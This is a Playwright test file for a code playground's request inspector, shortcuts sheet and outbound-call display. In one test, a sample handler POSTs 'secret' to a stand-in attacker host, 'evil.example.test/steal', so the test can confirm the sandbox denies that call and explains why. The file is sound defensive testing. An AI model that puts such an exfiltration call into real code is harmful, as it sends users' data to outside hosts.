/**
 * History's request inspector and the keyboard shortcuts sheet, driven as a user does: a History
 * entry opens (Enter) what was sent and what came back, the host's timings and the log lines of
 * that request only, and the outbound calls its handler made (a denied one explained); `?` outside
 * the editor lists the shortcuts with this platform's modifier.
 */
import { expect, test } from '../fixtures/swerve.ts';
import {
  DEPLOY_TIMEOUT,
  helloJsManifest,
  newProject,
  PLAYGROUND,
  replaceOpenFile,
  running,
  send,
} from '../fixtures/playground.ts';

// Every request logs its path: the inspector must show the line of its own request, not another's.
const LOGGING_HANDLER = `export default {
  fetch(request) {
    const path = new URL(request.url).pathname;
    console.log('inspect-me path=' + path + ';');
    return new Response('logged ' + path, { status: 201, headers: { 'x-inspected': 'yes' } });
  },
};
`;

test('a History entry opens its headers, timings and own log lines; ? opens the shortcuts', async ({
  page,
}) => {
  await page.setViewportSize({ width: 1280, height: 800 });
  await page.goto(PLAYGROUND);
  await newProject(page, 'js:hello');
  await replaceOpenFile(page, LOGGING_HANDLER);
  // The deploy re-sends GET / by itself: a request that logs a line of its own.
  await expect(page.getByTestId('response-body')).toHaveText('logged /', { timeout: DEPLOY_TIMEOUT });
  await send(page, '/probe');
  await expect(page.getByTestId('response-body')).toHaveText('logged /probe');

  await page.getByTestId('tab-history').click();
  const entry = page.getByTestId('history-entry').first();
  await expect(entry).toContainText('/probe');
  await entry.focus();
  await page.keyboard.press('Enter');

  const inspector = page.getByTestId('request-inspector');
  await expect(inspector).toBeVisible();
  await expect(page.getByTestId('inspector-status')).toHaveText('201');
  await expect(page.getByTestId('inspector-headers')).toContainText('x-inspected');
  await expect(page.getByTestId('inspector-timings')).toContainText('Handling');
  await expect(page.getByTestId('inspector-timings')).toContainText(/Request id\s*#\d+/);
  const logs = page.getByTestId('inspector-logs');
  await expect(logs).toContainText('inspect-me path=/probe;');
  await expect(logs).not.toContainText('inspect-me path=/;');
  await page.screenshot({ path: test.info().outputPath('inspector-1280.png') });
  await page.keyboard.press('Escape');
  await expect(inspector).toBeHidden();

  // At a phone's width the tools are one pane of three: History is in the Request pane.
  await page.setViewportSize({ width: 390, height: 844 });
  await page.getByTestId('pane-tab-run').click();
  await entry.click();
  await expect(logs).toContainText('inspect-me path=/probe;');
  await page.screenshot({ path: test.info().outputPath('inspector-390.png') });
  await page.keyboard.press('Escape');
  await expect(inspector).toBeHidden();
  await page.setViewportSize({ width: 1280, height: 800 });

  // `?` outside the editor opens the sheet; the modifier is this platform's (Chromium on Linux: Ctrl).
  const sheet = page.getByTestId('shortcuts-sheet');
  await page.getByTestId('tab-history').focus();
  await page.keyboard.press('?');
  await expect(sheet).toBeVisible();
  await expect(sheet).toContainText('Ctrl+Enter');
  await expect(sheet).not.toContainText('⌘');
  await page.keyboard.press('Escape');
  await expect(sheet).toBeHidden();
  // In the editor or a text field, `?` is a character to type: no sheet.
  await page.getByTestId('editor').locator('.cm-content').click();
  await page.keyboard.press('?');
  await expect(page.getByTestId('editor')).toContainText('?');
  await expect(sheet).toBeHidden();
  await page.getByTestId('request-path').fill('/search');
  await page.getByTestId('request-path').press('?');
  await expect(page.getByTestId('request-path')).toHaveValue('/search?');
  await expect(sheet).toBeHidden();
});

// The js:hello template's manifest, allowed to call one host.
const CALLING_MANIFEST = helloJsManifest('allowed_outbound_hosts = ["https://api.example.test"]');

// One call the manifest allows, one it does not; the answer says how each went.
const CALLING_HANDLER = `addEventListener('fetch', (event) => event.respondWith(handle()));
async function handle() {
  const weather = await (await fetch('https://api.example.test/weather?city=oslo')).text();
  let stolen = 'refused';
  try {
    await fetch('https://evil.example.test/steal', { method: 'POST', body: 'secret' });
    stolen = 'sent';
  } catch {}
  return new Response(weather + ' / ' + stolen);
}
`;

test('the inspector lists the outbound calls of a request, a denied one with what to add', async ({
  page,
  context,
}) => {
  const reached: string[] = [];
  await context.route('https://*.example.test/**', (route) => {
    reached.push(`${route.request().method()} ${route.request().url()}`);
    return route.fulfill({ body: 'sunny', headers: { 'access-control-allow-origin': '*' } });
  });
  await page.setViewportSize({ width: 1280, height: 800 });
  await page.goto(PLAYGROUND);
  await newProject(page, 'js:hello');
  await page.locator('button[title="spin.toml"]').click();
  await replaceOpenFile(page, CALLING_MANIFEST);
  await running(page);
  await page.locator('button[title="src/index.js"]').click();
  await replaceOpenFile(page, CALLING_HANDLER);
  await expect(async () => {
    await send(page, '/calls');
    await expect(page.getByTestId('response-body')).toHaveText('sunny / refused', { timeout: 1000 });
  }).toPass({ timeout: DEPLOY_TIMEOUT });
  expect(reached).toContain('GET https://api.example.test/weather?city=oslo');
  expect(reached.filter((line) => line.includes('evil'))).toEqual([]);

  await page.getByTestId('tab-history').click();
  await page.getByTestId('history-entry').first().click();
  const calls = page.getByTestId('inspector-outbound');
  await expect(calls.locator('li')).toHaveCount(2);
  await expect(calls.locator('li').first()).toContainText('GET');
  await expect(calls.locator('li').first()).toContainText('https://api.example.test/weather?city=oslo');
  await expect(calls.locator('li').first()).toContainText(/200 · [\d.]+ ms/);
  const denied = calls.locator('li').nth(1);
  await expect(denied).toContainText('POST');
  await expect(denied).toContainText('https://evil.example.test/steal');
  await expect(denied).toContainText('denied');
  await expect(denied).toContainText(
    `Refused by the component's allowed_outbound_hosts: A component tried to make a HTTP request to non-allowed host 'https://evil.example.test'. To allow requests, add 'allowed_outbound_hosts = ["https://evil.example.test"]'`,
  );
  await page
    .getByTestId('request-inspector')
    .screenshot({ path: test.info().outputPath('inspector-outbound.png') });
});
